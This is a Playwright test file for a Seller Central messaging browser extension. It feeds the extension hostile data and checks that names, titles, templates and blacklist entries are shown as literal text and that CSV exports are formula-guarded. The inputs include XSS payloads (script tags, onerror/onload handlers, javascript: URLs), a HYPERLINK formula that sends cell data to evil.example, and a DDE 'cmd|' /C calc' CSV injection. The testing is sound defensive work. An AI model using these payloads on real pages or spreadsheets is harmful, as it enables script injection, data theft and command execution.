/**
 * Security with hostile data (`generateReplicaData({ hostile: true })`: HTML/script payloads, `javascript:`
 * URLs, mustache, formulas, RTL/zero-width characters and very long strings in buyer names, subjects,
 * messages, feedback, product titles and SKUs). The inbox, a thread (order + buyer panels, template picker),
 * the popup and the options pages (templates, blacklist, analytics, backup) are loaded with it. Every page
 * and extension page is checked for:
 * - `window.__siXss` never set (every script payload sets it), and no injected markup in the DOM or in any
 *   open shadow root (no `on*` attribute, inline `<script>`, `<iframe>`, `javascript:` link, evil.example URL),
 *   and no "Refused to execute inline…" CSP report in the console (an extension page where markup got in);
 * - the payload text shown literally where the value is shown;
 * - no page errors; only Seller Central hosts contacted (`blockedRequests` empty).
 * Export files (blacklist CSV, analytics CSVs) are formula-guarded.
 */
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { generateReplicaData, type ReplicaData, type ReplicaThread } from '../replica/data';
import { hostileShort, pickCase } from '../replica/data/invariants';
import { HOSTILE_PAYLOADS, XSS_FLAG } from '../replica/data/hostile';
import { launchWithExtension, type ExtensionSession } from '../replica/harness';
import { createReplicaServer } from '../replica/server';
import { stripBidi } from '../../lib/text';

const SC = 'https://sellercentral.amazon.com';
const US = 'ATVPDKIKX0DER';
const NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Click") <img src=x onerror="window.__siXss=1"> Zoë';

let s: ExtensionSession;
let data: ReplicaData;
const pageErrors: string[] = [];
const cspReports: string[] = [];
const visited: Page[] = [];

beforeAll(async () => {
  const now = new Date(Math.floor(Date.now() / 60_000) * 60_000);
  data = generateReplicaData({ seed: 4, threads: 60, now, hostile: true });
  const extensionDir = process.env.SI_EXTENSION_DIR;
  s = await launchWithExtension({ replica: createReplicaServer(data), ...(extensionDir ? { extensionDir } : {}) });
  s.context.on('page', (page) => {
    page.on('pageerror', (e) => pageErrors.push(`${page.url()}: ${e.message}`));
    page.on('console', (m) => { if (/Refused to (execute|load|apply)|Content Security Policy/i.test(m.text())) cspReports.push(`${page.url()}: ${m.text()}`); });
  });
});
afterAll(async () => { await s?.close(); });

const newPage = async (): Promise<Page> => {
  const page = await s.context.newPage();
  visited.push(page);
  return page;
};

let askPage: Page | undefined;
async function ask<T>(message: unknown): Promise<T> {
  if (!askPage || askPage.isClosed()) {
    askPage = await newPage();
    await askPage.goto(`chrome-extension://${s.extensionId}/options.html#/settings`);
  }
  return askPage.evaluate((m) => chrome.runtime.sendMessage(m), message) as Promise<T>;
}

interface XssReport { flag: unknown; injected: string[] }

/** window.__siXss in the page's main world, and markup that must never come from data (document + open shadow roots). */
async function xss(page: Page): Promise<XssReport> {
  return page.evaluate((flag) => {
    const injected: string[] = [];
    const seen = new Set<Node>();
    const visit = (root: Document | ShadowRoot | Element): void => {
      for (const el of root.querySelectorAll('*')) {
        if (seen.has(el)) continue;
        seen.add(el);
        const tag = el.tagName.toLowerCase();
        for (const a of el.getAttributeNames()) if (/^on/i.test(a)) injected.push(`<${tag} ${a}>`);
        if (tag === 'script' && !el.getAttribute('src') && el.getAttribute('type') !== 'application/json') injected.push(`<script>${(el.textContent ?? '').slice(0, 60)}`);
        if (tag === 'iframe' || tag === 'object' || tag === 'embed' || tag === 'details') injected.push(`<${tag}>`);
        // browsers drop whitespace and control characters from a URL's scheme
        const href = [...(el.getAttribute('href') ?? '')].filter((ch) => ch.charCodeAt(0) > 0x20).join('').toLowerCase();
        if (href.startsWith('javascript:')) injected.push(`<${tag} href=${href.slice(0, 40)}>`);
        for (const a of ['src', 'href', 'srcdoc', 'style']) if ((el.getAttribute(a) ?? '').includes('evil.example')) injected.push(`<${tag} ${a}=evil>`);
        if (tag === 'style' && (el.textContent ?? '').includes('evil.example')) injected.push('<style>evil');
        if (el.shadowRoot) visit(el.shadowRoot);
      }
    };
    visit(document);
    return { flag: (window as unknown as Record<string, unknown>)[flag], injected };
  }, XSS_FLAG);
}

async function expectClean(page: Page): Promise<void> {
  const r = await xss(page);
  expect(r.flag, `${XSS_FLAG} set on ${page.url()}`).toBeUndefined();
  expect(r.injected, page.url()).toEqual([]);
}

/** All text of the page, with the text of open shadow roots (textContent does not enter them). */
async function deepText(page: Page, selector?: string): Promise<string> {
  return page.evaluate((sel) => {
    const parts: string[] = [];
    const walk = (n: Node): void => {
      if (n.nodeType === Node.TEXT_NODE) parts.push(n.nodeValue ?? '');
      const el = n as Element;
      if (el.shadowRoot) walk(el.shadowRoot);
      if (n instanceof HTMLTextAreaElement || n instanceof HTMLInputElement) parts.push(n.value);
      for (const c of n.childNodes) walk(c);
    };
    const roots = sel ? [...document.querySelectorAll(sel)] : [document.body];
    roots.forEach(walk);
    return parts.join('');
  }, selector);
}

const lumen = () => data.accounts[0]!.merchantId;
const orderOf = (id: string) => data.orders.find((o) => o.orderId === id);
/** A US thread awaiting an answer, about one order whose values are short payloads (guaranteed: invariants.ts). */
const shortThread = (): ReplicaThread => pickCase(data, 'hostile-short-and-long-threads').short;
const short = (t: ReplicaThread): boolean => hostileShort(data, t);

describe('hostile data on Seller Central pages', () => {
  it('(control) the check sees a payload that got parsed as markup, in a shadow root too', async () => {
    const page = await s.context.newPage();
    await page.goto(`${SC}/home`);
    await page.evaluate((html) => {
      const host = document.createElement('div');
      document.body.append(host);
      const root = host.attachShadow({ mode: 'open' });
      const box = document.createElement('div');
      root.append(box);
      // eslint-disable-next-line no-restricted-syntax -- the control injects markup on purpose
      box.innerHTML = html;
    }, HOSTILE_PAYLOADS[0]!);
    await expect.poll(async () => (await xss(page)).flag).toBe(1);
    expect((await xss(page)).injected).toEqual(['<img onerror>']);
    await page.close();
  });

  it('the inbox renders names and subjects as text, stores them literally, runs nothing', async () => {
    const page = await newPage();
    await page.goto(`${SC}/messaging/inbox?fi=ALL&pn=1&ps=100`);
    await page.waitForFunction(() => {
      const rows = [...document.querySelectorAll('kat-table-body kat-table-row[data-thread-id]')];
      return rows.length > 0 && rows.every((r) => r.querySelector('[data-si="deadline"]'));
    }, undefined, { timeout: 30_000 });
    await page.waitForTimeout(500);
    await expectClean(page);
    // the page's own rows (the replica renders with React): names literally
    const names = await page.locator('kat-table-body kat-table-row[data-thread-id] .bsm-buyer-name').allTextContents();
    expect(names.length).toBeGreaterThan(5);
    expect(names.some((n) => HOSTILE_PAYLOADS.some((p) => n.includes(p)))).toBe(true);
    // stored by the background exactly as shown (cut at 200 characters)
    const stored = async () => (await ask<{ threads: Array<{ threadId: string; buyerName: string; subject?: string }> }>({ type: 'threads/list', accountId: lumen(), marketplaceId: US })).threads;
    await expect.poll(async () => (await stored()).length, { timeout: 20_000 }).toBeGreaterThan(5);
    // every payload is among them (the zero-width U+FEFF one was once stored as a space)
    const every = pickCase(data, 'hostile-every-payload-listed');
    const storedIds = new Set((await stored()).map((st) => st.threadId));
    expect(every.filter((t) => !storedIds.has(t.threadId)).map((t) => t.threadId)).toEqual([]);
    for (const st of await stored()) {
      const t = data.threads.find((x) => x.threadId === st.threadId);
      if (!t || t.isSystem) continue;
      expect(st.buyerName, st.threadId).toBe(t.buyerName.slice(0, 200));
    }
    expect(pageErrors).toEqual([]);
  });

  it('a thread: order and buyer panels show titles, SKUs, names literally; the template picker previews them as text', async () => {
    const t = shortThread();
    const order = orderOf(t.orderIds[0]!)!;
    const page = await newPage();
    await page.goto(`${SC}/messaging/inbox?fi=caseId&ss=${t.threadId}&cc=${t.threadId}&mons_sel_mkid=${US}`);
    const card = page.locator(`[data-si="order-panel"] [data-si-order="${order.orderId}"]`);
    await card.locator('li[data-asin]').first().waitFor({ timeout: 30_000 });
    const panelText = await deepText(page, '[data-si="order-panel"]');
    for (const item of order.items) {
      // shown without bidi controls (lib/text), the text otherwise literal
      expect(panelText).toContain(stripBidi(item.title));
      expect(panelText).toContain(stripBidi(item.sku));
    }
    // buyer panel: the buyer's name
    await page.locator('[data-si="buyer-panel"] section.card[data-state="ready"]').waitFor({ timeout: 20_000 }).catch(() => undefined);
    expect(await deepText(page, '[data-si="buyer-panel"]')).toContain(stripBidi(t.buyerName));
    // the page's own conversation: buyer messages literally
    const conversation = await deepText(page);
    for (const m of t.messages.filter((x) => x.from === 'buyer')) expect(conversation).toContain(m.text.split('\n').at(-1));
    await expectClean(page);

    // template picker (when the feature is there)
    if (await page.locator('[data-si="template-button"]').count()) {
      await page.locator('[data-si="template-button"]').click();
      const picker = page.locator('[data-si="template-picker"]');
      await picker.waitFor();
      await picker.locator('input').first().fill('return refund');
      await expect.poll(() => picker.locator('.row.active .row-name').textContent(), { timeout: 10_000 }).toBe('Return and refund');
      const preview = picker.locator('[data-si="template-preview"]');
      await expect.poll(() => preview.textContent(), { timeout: 10_000 }).toContain(stripBidi(order.items[0]!.title));
      const shown = (await preview.textContent()) ?? '';
      expect(shown).toContain(`${stripBidi(t.buyerName).split(/\s+/)[0]!},`);
      expect(shown).toContain(stripBidi(order.items[0]!.title));
      await expectClean(page);
      // inserted into the page's reply box as text
      const insert = picker.locator('[data-si="picker-insert"]');
      if (await insert.isEnabled()) {
        await insert.click();
        await expect.poll(() => page.locator('textarea.compose-textarea').inputValue()).toContain(stripBidi(order.items[0]!.title));
      }
      await expectClean(page);
    }
    expect(pageErrors).toEqual([]);
    await page.close();
  });

  it('threads with very long names, subjects, titles and SKUs still get their panels, and nothing runs', async () => {
    const longOnes = data.threads.filter((x) => x.accountId === lumen() && x.marketplaceId === US && !x.isSystem && x.orderIds.length === 1
      && !short(x)).slice(0, 3);
    expect(longOnes.length).toBeGreaterThan(0);
    for (const t of longOnes) {
      const page = await newPage();
      await page.goto(`${SC}/messaging/inbox?fi=caseId&ss=${t.threadId}&cc=${t.threadId}&mons_sel_mkid=${US}`);
      await page.locator(`[data-si="order-panel"] [data-si-order="${t.orderIds[0]}"] li[data-asin], [data-si="order-panel"] [data-si-failure]`)
        .first().waitFor({ timeout: 30_000 });
      expect(await page.locator('[data-si="order-panel"] [data-si-failure]').count(), `order panel of ${t.threadId}`).toBe(0);
      const text = await deepText(page, '[data-si="order-panel"]');
      for (const item of orderOf(t.orderIds[0]!)?.items ?? []) expect(text).toContain(stripBidi(item.title));
      expect(await deepText(page, '[data-si="buyer-panel"]')).toContain(stripBidi(t.buyerName));
      await expectClean(page);
      await page.close();
    }
    expect(pageErrors).toEqual([]);
  });
});

describe('hostile data on extension pages', () => {
  it('the popup lists the urgent threads with their hostile names as text', async () => {
    const page = await newPage();
    await page.goto(`chrome-extension://${s.extensionId}/popup.html`);
    await page.locator('[data-si="urgent-thread"]').first().waitFor({ timeout: 20_000 });
    const text = await deepText(page);
    const urgent = (await ask<{ threads: Array<{ buyerName: string; subject?: string }> }>({ type: 'threads/urgent', limit: 5 })).threads;
    expect(urgent.length).toBeGreaterThan(0);
    for (const u of urgent) expect(text).toContain(stripBidi(u.buyerName));
    expect(urgent.some((u) => HOSTILE_PAYLOADS.some((p) => u.buyerName.includes(p)))).toBe(true);
    for (const a of await page.locator('[data-si="urgent-thread"]').evaluateAll((as) => as.map((x) => (x as HTMLAnchorElement).href))) {
      expect(new URL(a).protocol).toBe('https:');
    }
    await expectClean(page);
    await page.close();
  });

  it('options, templates: a hostile template name and body are listed and previewed as text', async () => {
    const body = '<script>window.__siXss=1</script> Hello {{buyer_name}}, "><svg onload=window.__siXss=1> javascript:window.__siXss=1';
    const saved = await ask<{ template: { id: string } }>({ type: 'templates/save', template: { name: NAME, tags: ['<b>tag</b>'], categories: [], bodies: { en: body } } });
    const page = await newPage();
    await page.goto(`chrome-extension://${s.extensionId}/options.html#/templates`);
    await page.locator('#opt-page-title').waitFor();
    if (await page.locator('[data-si="tpl-open"]').count() === 0 && await page.getByText('Coming in a later release').count()) return;
    await page.locator('[data-si="tpl-open"]', { hasText: 'Zoë' }).first().waitFor({ timeout: 10_000 });
    expect(await page.locator('[data-si="tpl-open"]', { hasText: 'Zoë' }).first().textContent()).toBe(NAME);
    await expectClean(page);
    await page.goto(`chrome-extension://${s.extensionId}/options.html#/templates/${encodeURIComponent(saved.template.id)}`);
    const preview = page.locator('[data-si="tpl-preview-text"]');
    await preview.waitFor({ timeout: 10_000 });
    // the text without the policy findings' numbers (<sup>)
    const previewText = () => preview.evaluate((el) => {
      const copy = el.cloneNode(true) as Element;
      copy.querySelectorAll('sup').forEach((x) => x.remove());
      return copy.textContent ?? '';
    });
    await expect.poll(previewText).toContain('<script>window.__siXss=1</script> Hello ');
    expect(await previewText()).toContain('"><svg onload=window.__siXss=1> javascript:window.__siXss=1');
    await expectClean(page);
    await page.close();
  });

  it('options, blacklist: a hostile buyer added through blacklist/add is shown as text and exported formula-guarded', async () => {
    await ask({ type: 'blacklist/add', buyerName: NAME, reason: '<script>window.__siXss=1</script> +SUM(1,2)', marketplaceId: US });
    await ask({ type: 'blacklist/add', buyerName: '@SUM(A1:A9)', reason: '-2+3+cmd|\' /C calc\'!A0' });
    const page = await newPage();
    await page.goto(`chrome-extension://${s.extensionId}/options.html#/blacklist`);
    await page.locator('td', { hasText: 'Zoë' }).first().waitFor({ timeout: 10_000 });
    expect(await deepText(page, 'table')).toContain(NAME);
    expect(await deepText(page, 'table')).toContain('<script>window.__siXss=1</script> +SUM(1,2)');
    await expectClean(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-si="blacklist-export"]').click()]);
    const csv = readFileSync(await download.path(), 'utf8');
    expect(csv).toContain(`'${NAME.replace(/"/g, '""')}`);
    expect(csv).toContain("'@SUM(A1:A9)");
    expect(csv).toContain("'-2+3+cmd|' /C calc'!A0");
    for (const line of csv.split('\r\n').slice(1)) expect(line.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    await page.close();
  });

  it('options, analytics and backup: render with hostile data, CSVs guarded, backup keeps the values literally', async () => {
    const page = await newPage();
    await page.goto(`chrome-extension://${s.extensionId}/options.html#/analytics`);
    await page.locator('#opt-page-title').waitFor();
    if (await page.locator('[data-si="analytics"]').count() || await page.locator('[data-si="analytics"]').waitFor({ timeout: 10_000 }).then(() => true, () => false)) {
      await page.waitForTimeout(500);
      await expectClean(page);
      const buttons = page.locator('[data-si^="analytics-csv-"]');
      for (let i = 0; i < await buttons.count(); i++) {
        if (!(await buttons.nth(i).isEnabled())) continue;
        const [download] = await Promise.all([page.waitForEvent('download'), buttons.nth(i).click()]);
        const csv = readFileSync(await download.path(), 'utf8');
        for (const cell of csv.split(/\r\n|,/)) if (!/^"?-?\d/.test(cell)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
      }
    }
    await page.goto(`chrome-extension://${s.extensionId}/options.html#/backup`);
    await page.locator('#opt-page-title').waitFor();
    if (await page.locator('[data-si="backup"]').waitFor({ timeout: 10_000 }).then(() => true, () => false)) {
      await expectClean(page);
      const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-si="backup-export"]').click()]);
      const file = JSON.parse(readFileSync(await download.path(), 'utf8')) as { data: Record<string, Array<Record<string, unknown>>> };
      expect(file.data.blacklist?.some((e) => e.buyerName === NAME)).toBe(true);
      await expectClean(page);
    }
    await page.close();
  });
});

describe('afterwards', () => {
  it('no page set the flag, no page error, no CSP report, and only Seller Central hosts were contacted', async () => {
    for (const page of visited) if (!page.isClosed()) await expectClean(page);
    expect(pageErrors).toEqual([]);
    expect(cspReports).toEqual([]);
    expect(s.blockedRequests).toEqual([]);
  });
});
